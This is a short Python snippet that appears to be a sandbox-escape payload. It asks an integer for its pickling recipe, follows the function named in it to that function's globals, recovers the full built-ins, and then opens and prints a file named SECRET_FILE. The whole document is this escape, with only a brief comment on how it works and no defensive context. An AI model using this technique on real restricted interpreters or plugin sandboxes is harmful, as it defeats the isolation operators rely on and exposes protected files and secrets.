# Asks an object how it would be copied, and takes the built-ins of the function named in the answer.
recipe = (1).__reduce_ex__(2)
tools = recipe[0].__globals__["__builtins__"]
print(tools["open"](SECRET_FILE).read())
